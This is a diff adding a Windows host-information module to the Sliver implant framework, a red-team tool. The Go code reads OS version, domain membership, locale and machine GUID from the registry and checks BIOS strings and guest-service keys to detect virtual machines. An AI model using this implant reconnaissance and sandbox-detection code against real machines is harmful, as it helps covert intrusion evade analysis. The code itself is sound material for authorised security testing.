@@ -0,0 +1,119 @@
+package hostinfo
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"fmt"
+	"strings"
+	"unsafe"
+
+	"github.com/bishopfox/sliver/sliver/syscalls"
+	"golang.org/x/sys/windows"
+	"golang.org/x/sys/windows/registry"
+)
+
+const (
+	localeNameMaxLength = 85
+	windows11Build      = 22000
+)
+
+var (
+	// Guest additions and tools services
+	guestServices = map[string]string{
+		"VBoxGuest":     "VirtualBox",
+		"vmtools":       "VMware",
+		"vmci":          "VMware",
+		"vmicheartbeat": "Hyper-V",
+		"xenevtchn":     "Xen",
+		"prl_tg":        "Parallels",
+		"QEMU-GA":       "QEMU",
+	}
+)
+
+func collect(info *HostInfo) {
+	info.OS = registryString(`SOFTWARE\Microsoft\Windows NT\CurrentVersion`, "ProductName")
+	version := windows.RtlGetVersion()
+	// Windows 11 still reports itself as Windows 10 in the product name
+	if windows11Build <= version.BuildNumber {
+		info.OS = strings.Replace(info.OS, "Windows 10", "Windows 11", 1)
+	}
+	info.Version = registryString(`SOFTWARE\Microsoft\Windows NT\CurrentVersion`, "DisplayVersion")
+	if info.Version == "" {
+		info.Version = registryString(`SOFTWARE\Microsoft\Windows NT\CurrentVersion`, "ReleaseId")
+	}
+	info.Kernel = fmt.Sprintf("%d.%d.%d", version.MajorVersion, version.MinorVersion, version.BuildNumber)
+	info.Build = fmt.Sprintf("%d", version.BuildNumber)
+	if ubr, ok := registryInteger(`SOFTWARE\Microsoft\Windows NT\CurrentVersion`, "UBR"); ok {
+		info.Build = fmt.Sprintf("%d.%d", version.BuildNumber, ubr)
+	}
+
+	info.Uptime = int64(syscalls.GetTickCount64() / 1000)
+
+	localeName := make([]uint16, localeNameMaxLength)
+	if 0 < syscalls.GetUserDefaultLocaleName(&localeName[0], int32(len(localeName))) {
+		info.Locale = windows.UTF16ToString(localeName)
+	}
+	info.Timezone = registryString(`SYSTEM\CurrentControlSet\Control\TimeZoneInformation`, "TimeZoneKeyName")
+
+	var name *uint16
+	var status uint32
+	if windows.NetGetJoinInformation(nil, &name, &status) == nil {
+		info.Domain = windows.UTF16PtrToString(name)
+		info.DomainJoined = status == windows.NetSetupDomainName
+		windows.NetApiBufferFree((*byte)(unsafe.Pointer(name)))
+	}
+
+	addIndicator(info, matchHypervisors(
+		registryString(`HARDWARE\DESCRIPTION\System\BIOS`, "SystemManufacturer"),
+		registryString(`HARDWARE\DESCRIPTION\System\BIOS`, "SystemProductName"),
+		registryString(`HARDWARE\DESCRIPTION\System\BIOS`, "BIOSVendor"),
+	)...)
+	for service, hypervisor := range guestServices {
+		key, err := registry.OpenKey(registry.LOCAL_MACHINE, `SYSTEM\CurrentControlSet\Services\`+service, registry.QUERY_VALUE)
+		if err == nil {
+			key.Close()
+			addIndicator(info, hypervisor)
+		}
+	}
+
+	info.HostUUID = registryString(`SOFTWARE\Microsoft\Cryptography`, "MachineGuid")
+}
+
+func registryString(path string, name string) string {
+	key, err := registry.OpenKey(registry.LOCAL_MACHINE, path, registry.QUERY_VALUE|registry.WOW64_64KEY)
+	if err != nil {
+		return ""
+	}
+	defer key.Close()
+	value, _, err := key.GetStringValue(name)
+	if err != nil {
+		return ""
+	}
+	return value
+}
+
+func registryInteger(path string, name string) (uint64, bool) {
+	key, err := registry.OpenKey(registry.LOCAL_MACHINE, path, registry.QUERY_VALUE|registry.WOW64_64KEY)
+	if err != nil {
+		return 0, false
+	}
+	defer key.Close()
+	value, _, err := key.GetIntegerValue(name)
+	return value, err == nil
+}